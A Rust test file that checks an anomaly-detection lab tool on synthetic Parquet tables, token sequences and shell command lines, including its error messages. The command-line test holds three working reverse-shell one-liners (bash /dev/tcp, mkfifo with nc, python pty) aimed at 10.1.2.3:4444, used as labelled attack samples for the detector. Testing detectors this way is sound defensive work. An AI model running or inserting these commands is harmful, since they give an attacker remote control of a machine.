//! `lab`, from Parquet files to figures.

use std::fs::File;
use std::path::Path;
use std::process::{Command, Output};
use std::sync::Arc;

use arrow::array::{
    ArrayRef, BooleanArray, Float64Array, Int32Array, ListArray, RecordBatch, StringArray,
};
use arrow::datatypes::Int32Type;
use parquet::arrow::ArrowWriter;
use sentinel_model::random::SplitMix64;
use serde_json::Value;

fn lab(folder: &Path, words: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_sentinel-train"))
        .arg("lab")
        .args(words)
        .current_dir(folder)
        .output()
        .expect("starts")
}

fn figures(folder: &Path, words: &[&str]) -> Value {
    let output = lab(folder, &[words, &["--json"]].concat());
    assert!(output.status.success(), "{words:?}: {output:?}");
    serde_json::from_slice(&output.stdout).expect("is JSON")
}

fn put(path: &Path, columns: Vec<(&str, ArrayRef)>) {
    let batch = RecordBatch::try_from_iter(columns).expect("fits");
    let file = File::create(path).expect("is made");
    let mut writer = ArrowWriter::try_new(file, batch.schema(), None).expect("begins");
    writer.write(&batch).expect("writes");
    writer.close().expect("ends");
}

fn array(values: impl arrow::array::Array + 'static) -> ArrayRef {
    Arc::new(values)
}

/// Two columns that hang together, one of strings, one with holes, one that never varies;
/// in anomalies they do not hang together, and the string is a rare one.
fn table(
    path: &Path,
    rows: usize,
    anomalies: usize,
    seed: u64,
    label: impl Fn(bool) -> Option<String>,
) {
    let mut random = SplitMix64::stream(seed, 0);
    let (mut a, mut b, mut words, mut flags, mut labels) = (vec![], vec![], vec![], vec![], vec![]);
    for row in 0..rows + anomalies {
        let anomaly = row >= rows;
        let x = random.unit();
        a.push((row % 13 != 0).then_some(x * 100.0));
        b.push(if anomaly {
            3.0 - 4.0 * x
        } else {
            2.0 * x + 0.1 * random.unit()
        });
        words.push(if anomaly && row % 2 == 0 {
            "rare"
        } else {
            "usual"
        });
        flags.push(random.unit() < 0.5);
        labels.push(label(anomaly));
    }
    put(
        path,
        vec![
            ("a", array(Float64Array::from(a))),
            ("b", array(Float64Array::from(b))),
            ("words", array(StringArray::from(words))),
            ("flag", array(BooleanArray::from(flags))),
            ("same", array(Int32Array::from(vec![7; rows + anomalies]))),
            ("label", array(StringArray::from(labels))),
        ],
    );
}

fn named(anomaly: bool) -> Option<String> {
    Some(if anomaly { "neptune" } else { "Normal" }.to_owned())
}

#[test]
fn tables_are_judged_by_forest_and_autoencoder() {
    let folder = tempfile::tempdir().expect("a folder");
    let folder = folder.path();
    table(&folder.join("train"), 1_000, 0, 1, |_| None);
    table(&folder.join("test"), 500, 50, 2, named);
    let words = ["table", "train", "test", "--label", "label"];
    let first = figures(folder, &words);
    for model in ["forest", "autoencoder", "combined"] {
        let of = |name: &str| first[model][name].as_f64().expect("is a number");
        assert!(of("auroc") > 0.75, "{first}");
        assert!(
            of("tpr_at_5") >= of("tpr_at_1") && of("ap") > 0.3,
            "{first}"
        );
        assert!(of("fit_ms") > 0.0 && of("rows_per_s") > 0.0, "{first}");
    }
    // Only times differ between two runs, and a seed does make a difference.
    let scores = |figures: &Value| {
        ["forest", "autoencoder", "combined"]
            .map(|model| [&figures[model]["auroc"], &figures[model]["ap"]].map(Value::to_string))
    };
    assert_eq!(scores(&first), scores(&figures(folder, &words)));
    let other = figures(folder, &[&words[..], &["--seed", "5"]].concat());
    assert_ne!(scores(&first), scores(&other));
}

/// Rows spread over a plane, and as many anomalies that are all alike, beside it.
fn alike(path: &Path, rows: usize, seed: u64) {
    let mut random = SplitMix64::stream(seed, 0);
    let mut columns = [(); 3].map(|()| Vec::new());
    let labels: Vec<bool> = (0..rows * 2).map(|row| row % 2 == 1).collect();
    for anomaly in &labels {
        let (x, y, noise) = (random.unit(), random.unit(), 0.01 * random.unit());
        let row = if *anomaly {
            [0.8 + noise, 0.3, 0.1]
        } else {
            [x, y, x + y + noise]
        };
        columns
            .iter_mut()
            .zip(row)
            .for_each(|(column, value)| column.push(value));
    }
    let [a, b, c] = columns.map(|column| array(Float64Array::from(column)));
    let labels = array(BooleanArray::from(labels));
    put(path, vec![("a", a), ("b", b), ("c", c), ("label", labels)]);
}

#[test]
fn labelled_anomalies_are_learned_from_unless_left_out() {
    let folder = tempfile::tempdir().expect("a folder");
    let folder = folder.path();
    alike(&folder.join("both"), 300, 3);
    let words = ["table", "both", "both", "--label", "label"];
    let auroc =
        |figures: &Value, model: &str| figures[model]["auroc"].as_f64().expect("is a number");
    let all = figures(folder, &words);
    let one_class = figures(folder, &[&words[..], &["--one-class"]].concat());
    // Half of what is learned from are anomalies, which then pass for usual; where they are
    // left out, they are what was never seen.
    for model in ["forest", "autoencoder", "combined"] {
        let found = (auroc(&all, model), auroc(&one_class, model));
        assert!(found.0 < 0.6 && found.1 > 0.95, "{model}: {found:?}");
    }
}

#[test]
fn a_network_does_not_learn_to_repeat_scattered_anomalies() {
    let folder = tempfile::tempdir().expect("a folder");
    let folder = folder.path();
    table(&folder.join("both"), 400, 200, 3, named);
    let found = figures(folder, &["table", "both", "both", "--label", "label"]);
    let auroc = found["autoencoder"]["auroc"].as_f64();
    assert!(auroc > Some(0.92), "{found}");
}

/// Walks around a ring; an anomaly jumps for a while.
fn sequences(path: &Path, rows: usize, anomalies: usize, seed: u64) {
    let mut random = SplitMix64::stream(seed, 0);
    let mut walk = |anomaly: bool| {
        let (begin, step) = (random.below(20), 1 + random.below(2));
        let token = |at: usize| {
            let jumps = anomaly && (10..16).contains(&at);
            if jumps {
                random.below(20)
            } else {
                (begin + at * step) % 20
            }
        };
        Some(
            (0..30)
                .map(token)
                .map(|t| Some(t as i32))
                .collect::<Vec<_>>(),
        )
    };
    let labels: Vec<bool> = (0..rows + anomalies).map(|row| row >= rows).collect();
    let lists: Vec<_> = labels.iter().map(|anomaly| walk(*anomaly)).collect();
    let lists = ListArray::from_iter_primitive::<Int32Type, _, _>(lists);
    put(
        path,
        vec![
            ("s", array(lists)),
            ("bad", array(BooleanArray::from(labels))),
        ],
    );
}

#[test]
fn sequences_are_judged_by_ngram_and_lstm() {
    let folder = tempfile::tempdir().expect("a folder");
    let folder = folder.path();
    sequences(&folder.join("train"), 300, 0, 1);
    sequences(&folder.join("test"), 100, 30, 2);
    for files in [["train", "test"], ["test", "test"]] {
        let words = [
            "sequences",
            files[0],
            files[1],
            "--column",
            "s",
            "--label",
            "bad",
        ];
        let found = figures(folder, &words);
        for model in ["ngram", "lstm", "combined"] {
            assert!(
                found[model]["auroc"].as_f64() > Some(0.8),
                "{files:?} {found}"
            );
        }
    }
}

const USUAL: [&str; 8] = [
    "ls -la /srv/app/in",
    "grep -rn error /var/log/app",
    "git pull origin main",
    "make -j4 test",
    "tar czf /backup/app.tgz /srv/app",
    "systemctl status nginx",
    "cp a.txt b.txt",
    "tail -n 50 /var/log/syslog",
];
const ATTACKS: [&str; 3] = [
    "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.1.2.3 4444 >/tmp/f",
    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.1.2.3\",4444));pty.spawn(\"sh\")'",
];

#[test]
fn command_lines_are_judged_and_padding_hides_nothing() {
    let folder = tempfile::tempdir().expect("a folder");
    let folder = folder.path();
    let usual = |n: usize| (0..n).map(|at| format!("{} {}", USUAL[at % 8], at % 31));
    let write = |name: &str, attacks: Vec<String>| {
        let labels = [
            vec![Some("benign"); 200],
            vec![Some("attack"); attacks.len()],
        ]
        .concat();
        let lines: Vec<String> = usual(200).chain(attacks).collect();
        put(
            &folder.join(name),
            vec![
                ("line", array(StringArray::from(lines))),
                ("label", array(StringArray::from(labels))),
            ],
        );
    };
    write("train", vec![]);
    for padding in ["".to_owned(), format!(" #{}", "a".repeat(126))] {
        write(
            "test",
            ATTACKS
                .iter()
                .map(|line| format!("{line}{padding}"))
                .collect(),
        );
        let words = [
            "commands", "train", "test", "--column", "line", "--label", "label",
        ];
        let found = figures(folder, &words);
        assert!(
            found["combined"]["auroc"].as_f64() > Some(0.99),
            "{padding:?} {found}"
        );
    }
}

#[test]
fn windows_are_judged_by_the_commands_of_the_same_group() {
    let folder = tempfile::tempdir().expect("a folder");
    let folder = folder.path();
    // What one person types is what the other never does.
    let window = |user: usize, n: usize| {
        (0..40).map(move |at| format!("c{}", user * 10 + (at * (n % 3 + 1) + n) % 10))
    };
    let write = |name: &str, strangers: bool| {
        let (mut users, mut lists, mut labels) = (vec![], vec![], vec![]);
        for n in 0..60 {
            let (user, stranger) = (n % 2, strangers && n >= 50);
            users.push(format!("u{user}"));
            lists.push(window(if stranger { 1 - user } else { user }, n).collect::<Vec<_>>());
            labels.push(i32::from(stranger));
        }
        let mut builder = arrow::array::ListBuilder::new(arrow::array::StringBuilder::new());
        lists
            .into_iter()
            .for_each(|list| builder.append_value(list.into_iter().map(Some)));
        put(
            &folder.join(name),
            vec![
                ("user", array(StringArray::from(users))),
                ("names", array(builder.finish())),
                ("label", array(Int32Array::from(labels))),
            ],
        );
    };
    write("train", false);
    write("test", true);
    let words = [
        "commands", "train", "test", "--column", "names", "--label", "label",
    ];
    let together = figures(folder, &words);
    let apart = figures(folder, &[&words[..], &["--group", "user"]].concat());
    assert!(
        together["single"]["auroc"].as_f64() < Some(0.9),
        "{together}"
    );
    assert_eq!(apart["combined"]["auroc"].as_f64(), Some(1.0), "{apart}");
}

#[test]
fn what_is_wrong_is_one_line() {
    let folder = tempfile::tempdir().expect("a folder");
    let folder = folder.path();
    table(&folder.join("good"), 20, 5, 1, named);
    table(&folder.join("unknown"), 20, 5, 1, |anomaly| {
        Some(if anomaly { "unknown" } else { "normal" }.to_owned())
    });
    table(&folder.join("neither"), 20, 5, 1, |anomaly| {
        Some(if anomaly { "red" } else { "blue" }.to_owned())
    });
    table(&folder.join("normal"), 20, 0, 1, named);
    let lists =
        ListArray::from_iter_primitive::<Int32Type, _, _>([Some([Some(1)]), Some([Some(2)])]);
    put(
        &folder.join("lists"),
        vec![
            ("words", array(lists)),
            ("label", array(BooleanArray::from(vec![false, true]))),
        ],
    );
    std::fs::write(folder.join("text"), "no Parquet").expect("is written");
    for (words, sentence) in [
        (
            &["table", "none", "good", "--label", "label"][..],
            "cannot open none",
        ),
        (
            &["table", "text", "good", "--label", "label"],
            "text is not a Parquet file",
        ),
        (
            &["table", "good", "good", "--label", "b"],
            "a label is 0 for normal or 1 for an anomaly",
        ),
        (
            &["table", "good", "good", "--label", "c"],
            "has no column \"c\"; it has a, b, words",
        ),
        (&["table", "good", "good", "--label", "same"], "7 in row 0"),
        (
            &["table", "unknown", "unknown", "--label", "label"],
            "leave a label empty",
        ),
        (
            &["table", "neither", "neither", "--label", "label"],
            "cannot be told apart",
        ),
        (
            &[
                "sequences",
                "good",
                "good",
                "--label",
                "label",
                "--column",
                "a",
            ],
            "not lists of integers or strings",
        ),
        (
            &[
                "commands", "good", "good", "--label", "label", "--column", "a",
            ],
            "not command lines or lists",
        ),
        (
            &[
                "commands", "good", "good", "--label", "label", "--column", "words", "--group", "a",
            ],
            "--group is for lists",
        ),
    ] {
        let output = lab(folder, words);
        let said = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{words:?}: {output:?}");
        assert!(
            said.contains(sentence) && said.lines().count() == 1,
            "{words:?}: {said}"
        );
    }
}
